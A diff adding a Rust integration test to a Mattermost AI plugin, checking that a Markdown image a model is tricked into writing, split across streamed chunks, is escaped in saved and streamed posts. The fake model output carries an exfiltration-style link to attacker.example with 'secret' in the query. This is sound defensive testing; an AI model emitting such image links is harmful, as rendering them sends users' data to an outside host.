@@ -7,7 +7,7 @@
 use crate::common::{Under, licensed};
 use std::collections::BTreeSet;
 
-use mattermost_simulator::fake_provider::one_agent_config;
+use mattermost_simulator::fake_provider::{FakeProvider, Script, one_agent_config};
 use mattermost_simulator::{Simulator, Transport};
 use serde_json::{Value, json};
 
@@ -17,7 +17,10 @@ use crate::mcp_tools::{model, tool_calls, wait_for};
 const BIN: &str = env!("CARGO_BIN_EXE_mattermost-ai");
 const EVENT: &str = "custom_mattermost-ai_postupdate";
 
-in_process!(a_conversation_gives_the_mobile_app_what_it_reads);
+in_process!(
+    a_conversation_gives_the_mobile_app_what_it_reads,
+    a_planted_image_reaches_no_client_as_an_image
+);
 
 fn contract() -> Value {
     serde_json::from_str(include_str!("../fixtures/mobile_contract.json")).expect("the contract is JSON")
@@ -258,4 +261,53 @@ async fn a_conversation_gives_the_mobile_app_what_it_reads(t: Transport) {
     assert_eq!(status, 200);
     let (status, _) = post_json(&sim, &token, &format!("/post/{}/stop", answer.id), json!({})).await;
     assert_eq!(status, 200);
+}
+
+/// The mobile app renders agent posts with its own Markdown and loads images, whatever
+/// `unsafe_links` says: a model tricked into writing an image (split across chunks here) must
+/// not reach any client as one, in the saved post or in the streamed text.
+async fn a_planted_image_reaches_no_client_as_an_image(t: Transport) {
+    let fake = FakeProvider::start(vec![Script::chat_completion(
+        &[
+            "Here !",
+            "[x](https://attacker.example/?q=secret) and `![code](u)`",
+        ],
+        0,
+        None,
+    )])
+    .await
+    .unwrap();
+    fake.route(|seen| {
+        let system = seen.body["messages"][0]["content"].as_str().unwrap_or("");
+        system
+            .starts_with("Write a title")
+            .then(|| Script::chat_completion(&["A title"], 0, None))
+    });
+    let sim = Simulator::builder(BIN)
+        .under(t)
+        .license(licensed())
+        .plugin_config(one_agent_config(&fake.url, json!({}), json!({}), json!({})))
+        .start()
+        .await
+        .unwrap();
+    let (alice, _) = sim.add_user("alice", "system_user");
+    let bot = sim.bot_user_id("ai").unwrap();
+    let dm = sim.direct_channel(&alice.id, &bot);
+    sim.post_as(&alice.id, &dm.id, "Summarize the page", "")
+        .await
+        .unwrap();
+    let answer = wait_for(&sim, "the answer", |p| {
+        p.user_id == bot && p.message.contains("attacker")
+    })
+    .await;
+    sim.settle().await;
+    assert_eq!(
+        answer.message,
+        "Here !\\[x](https://attacker.example/?q=secret) and `![code](u)`"
+    );
+    for e in sim.data().ws_events.iter().filter(|e| e.event == EVENT) {
+        if let Some(next) = e.payload.get("next").and_then(Value::as_str) {
+            assert!(!next.contains("![x]"), "streamed as an image: {next}");
+        }
+    }
 }
